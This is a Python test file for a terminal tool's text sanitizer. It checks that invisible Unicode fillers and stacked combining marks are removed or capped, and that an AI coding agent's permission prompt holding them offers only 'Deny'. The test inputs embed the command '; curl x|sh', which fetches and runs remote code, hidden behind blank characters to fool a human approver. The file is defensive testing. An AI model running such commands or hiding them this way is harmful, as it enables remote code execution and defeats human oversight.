"""Blank-rendering fillers, variation selectors and stacked combining marks (issue 10, third
attack pass, A3b): the sanitizer removes the first two and caps the third, for one-line and
multi-line text and for the terminal; a permission subject holding any of them is "not all
visible", so its notification offers "Deny" only. Pure."""

from __future__ import annotations

import pytest

from signaltty.agents.permission import native_prompt
from signaltty.core.sanitize import MAX_COMBINING, UNSAFE_IN_JSON, for_terminal, sanitize_text
from signaltty.desktop import policy

FILLERS = ["\u115f", "\u1160", "\u3164", "\uffa0", "\u2800", "\ufe00", "\ufe0f", "\U000e0100",
           "\U000e01ef"]


@pytest.mark.parametrize("ch", FILLERS, ids=[f"U+{ord(c):04X}" for c in FILLERS])
def test_fillers_are_removed_everywhere(ch: str) -> None:
    text = "ls" + ch * 40 + "; curl x|sh"
    assert sanitize_text(text, 200) == "ls; curl x|sh"
    assert sanitize_text(text, 200, multiline=True) == "ls; curl x|sh"
    assert for_terminal(text) == "ls; curl x|sh"
    assert UNSAFE_IN_JSON.search(ch)  # `--json` output shows them as \u escapes


def test_combining_marks_are_capped_per_base_character() -> None:
    assert for_terminal("a" + "\u0336" * 20 + "b") == "a" + "\u0336" * MAX_COMBINING + "b"
    # real scripts keep their marks: NFD Vietnamese (two marks), Devanagari
    for word in ("Vie\u0302\u0323t", "\u0939\u093f\u0928\u094d\u0926\u0940"):
        assert for_terminal(word) == word == sanitize_text(word, 50)


def test_emoji_lose_only_their_presentation_selector() -> None:
    assert for_terminal("ok \u2764\ufe0f") == "ok \u2764"


@pytest.mark.parametrize(
    "command",
    ["ls" + "\u3164" * 33 + "; curl x|sh", "ls \u0336\u0336\u0336\u0336\u0336 ok", "ls\ufe0f -la"],
)
def test_a_subject_with_invisible_characters_is_offered_deny_only(command: str) -> None:
    view = policy.PaneView(
        "pane_1", "n", "Claude Code", "permission_required",
        decision=policy.DecisionView(
            "d", True, "Bash", native_prompt("Bash", {"command": command})
        ),
    )
    c = policy.render("permission", None, None, view, policy.Settings(), actions=True)
    assert c.buttons, c.body
    assert not c.allow_button, c.body


def test_right_to_left_lines_start_with_a_left_to_right_mark() -> None:
    view = policy.PaneView(
        "pane_1", "n", "Claude Code", "permission_required",
        decision=policy.DecisionView(
            "d", True, "Bash", native_prompt("Bash", {"command": "\u05d0 ;curl x|sh; ls"})
        ),
    )
    c = policy.render("permission", None, None, view, policy.Settings(), actions=True)
    lines = c.body.split("\n")
    assert lines[0] == "Allow Bash?"
    assert lines[1] == "\u200e\u05d0 ;curl x|sh; ls"
    assert all(not ln.startswith("\u200e") for ln in lines[2:])
